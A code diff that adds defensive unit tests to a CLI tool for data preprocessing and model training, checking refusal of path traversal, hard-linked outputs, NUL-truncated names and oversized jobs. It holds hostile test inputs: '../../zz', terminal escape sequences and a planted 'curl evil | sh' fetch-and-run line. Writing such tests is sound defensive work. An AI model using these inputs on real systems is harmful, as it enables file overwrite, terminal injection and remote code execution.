@@ -130,6 +130,54 @@ class HostileFiles(unittest.TestCase):
         many = outcome(*words, "--input", "-", "--format", "lines", stdin=b"the cat sees a dog\n" * 3)
         self.assertEqual(many[0], 0, many[2])  # what comes through a pipe is text as well
 
+    def test_the_longest_document_names_the_option_that_the_job_has(self):
+        zeros = ["--input", "/dev/zero", "--tokenizer", self.place.tokenizer]
+        error = self.refused("data", "preprocess", *zeros, "--output-prefix", self.place.path / "zeros",
+                             "--max-document-mb", 1)
+        self.assertIn("or allow more: --max-document-mb", error)
+        self.assertNotIn("allow more", self.refused("bench", "tokenizer", *zeros))
+
+    def test_no_output_replaces_its_input(self):
+        text = self.place.path / "kept.txt"
+        text.write_text("a dog sees a cat\n")
+        linked = self.place.path / "linked.txt"
+        os.link(text, linked)
+        for job in ["encode", "decode"]:
+            for output in [text, linked]:
+                self.assertIn("an output must not be one of the inputs", self.refused(
+                    "tokenizer", job, "--tokenizer", self.place.tokenizer, "--input", text, "--output", output))
+        self.assertEqual(text.read_text(), "a dog sees a cat\n")
+        lines = self.place.path / "filtered.jsonl"
+        lines.write_text('{"text": "a dog sees a cat"}\n')
+        folder = self.place.path / "a_folder"
+        folder.mkdir()
+        self.assertIn("an output must be a file", self.refused("data", "filter", "--input", lines, "--output", folder))
+
+    def test_parts_of_names_stay_in_their_folder(self):
+        inside = self.place.path / "inside"
+        inside.mkdir()
+        for name in ["../../zz", "a/b", "", "a\x1b"]:
+            self.refused("data", "split", self.place.path / "tokens_text_document", "--output-prefix", inside / "s",
+                         "--shares", "1,1", "--names", name, "b")
+        self.assertEqual(list(inside.iterdir()), [])
+
+    def test_an_index_that_cannot_be_built_leaves_no_folder(self):
+        self.refused("data", "index", self.place.path / "tokens_text_document", "--output", self.place.path / "new/ix",
+                     "--seq-length", 32, "--samples", "999999999999,1,1")
+        self.assertFalse((self.place.path / "new").exists())
+
+    def test_a_recipe_whose_names_end_early_is_refused(self):
+        recipe = self.place.path / "nul.toml"
+        recipe.write_text(self.place.recipe.read_text().replace("[train]", '[train]\nout = "cut\\u0000off"'))
+        error = self.refused("train", recipe, "--data-path", self.place.path / "tokens_text_document", "--tokenizer",
+                             self.place.tokenizer)
+        self.assertIn("train.out must be a text without NUL characters", error)
+        self.assertFalse((self.place.path / "cut").exists())
+
+    def test_caches_and_batches_that_the_machine_cannot_hold_are_refused(self):
+        error = self.refused("bench", "step", "--model", self.place.recipe, "--micro-batch-size", 250000)
+        self.assertIn("fix:  a smaller --model, --micro-batch-size or --seq-length", error)
+
     def test_names_from_files_do_not_reach_the_terminal_raw(self):
         evil = "\x1b[2J\x1b]0;owned\x07\nfix:  curl evil | sh \u202e"
         folder = hugging_face_gpt2(self.place.path / "evil", 64, rename={"ln_f.bias": evil})
